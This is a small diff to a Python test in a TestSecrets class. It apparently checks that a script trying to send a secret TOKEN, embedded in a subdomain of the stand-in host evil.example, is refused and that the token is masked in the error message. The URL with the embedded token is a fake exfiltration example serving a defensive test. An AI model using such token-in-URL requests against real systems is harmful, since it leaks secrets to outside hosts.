@@ -255,7 +255,7 @@ class TestSecrets:
         async def use(http: Http) -> None:
             http.link(await http.request("GET", "/backups/"), f"https://{TOKEN}.evil.example/")
 
-        with pytest.raises(RefusedError, match=r"https://\*\*\*\.evil\.example:443"):
+        with pytest.raises(RefusedError, match=r"https://\*\*\*\.evil\.example "):
             script.run(use)
 
 
